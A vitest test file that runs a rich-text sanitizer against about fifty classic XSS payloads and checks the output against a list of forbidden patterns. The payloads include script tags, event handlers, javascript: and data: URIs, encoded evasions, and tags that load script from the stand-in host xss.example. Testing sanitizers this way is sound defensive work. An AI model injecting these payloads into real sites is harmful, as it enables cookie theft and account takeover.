/**
 * Rich text against a list of well-known XSS payloads (in the spirit of the public OWASP XSS filter
 * evasion cheat sheet): nothing that can run script or load a foreign resource survives.
 */
import { describe, expect, it } from 'vitest';
import { sanitizeRichText } from './sanitize.ts';

const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  "<IMG SRC=javascript:alert('XSS')>",
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<a onmouseover="alert(document.cookie)">xxs link</a>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>',
  '<IMG SRC=# onmouseover="alert(\'xxs\')">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC="jav\tascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">',
  '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
  '<SCRIPT/XSS SRC="http://xss.example/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<SCRIPT SRC=http://xss.example/xss.js?< B >',
  '<IMG SRC="`<javascript:alert>`(\'XSS\')"',
  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
  '<BODY BACKGROUND="javascript:alert(\'XSS\')">',
  "<svg/onload=alert('XSS')>",
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="//xss.example/"></iframe>',
  '<iframe src="/\\xss.example/"></iframe>',
  '<iframe src="https://xss.example/"></iframe>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">',
  '<DIV STYLE="width: expression(alert(\'XSS\'));">',
  "<STYLE>@import'http://xss.example/xss.css';</STYLE>",
  '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.example/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+">',
  '<video><source onerror="alert(1)"></video>',
  '<details open ontoggle=alert(1)>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<base href="javascript:alert(1)//">',
  '<p title="</p><script>alert(1)</script>">x</p>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
];

/** Attributes and URLs that must never come out of the sanitizer. */
const FORBIDDEN = [
  /<script/i,
  /javascript:/i,
  /vbscript:/i,
  /\son[a-z]+\s*=/i,
  /srcdoc/i,
  /(src|href)\s*=\s*["']?\s*data:/i,
  /(src|href)\s*=\s*["']?\s*\/[/\\]/i,
  /xss\.example/i,
  /expression\(/i,
  /<(style|link|meta|object|embed|base|form|input|svg|math|body)\b/i,
  /style=/i,
];

describe('rich-text sanitizer against XSS payloads', () => {
  it.each(PAYLOADS.map((p, i) => [i + 1, p] as const))(
    'payload %i leaves nothing that runs or loads elsewhere',
    (_i, payload) => {
      const out = sanitizeRichText(`<p>Tin tức</p>${payload}<p>hết</p>`);
      for (const bad of FORBIDDEN) expect(out, `${payload} → ${out}`).not.toMatch(bad);
      // The harmless text around the payload survives.
      expect(out).toContain('Tin tức');
    },
  );

  it('keeps ordinary formatting, our own media and safe links', () => {
    const out = sanitizeRichText(
      '<h2>Tiêu đề</h2><p><strong>Đậm</strong> <a href="https://dangcongsan.vn">nguồn</a></p><video src="/api/library/files/1" controls></video>',
    );
    expect(out).toContain('<h2>Tiêu đề</h2>');
    expect(out).toContain('<strong>Đậm</strong>');
    expect(out).toContain('href="https://dangcongsan.vn"');
    expect(out).toContain('rel="noopener noreferrer"');
    expect(out).toContain('<video src="/api/library/files/1" controls>');
  });
});
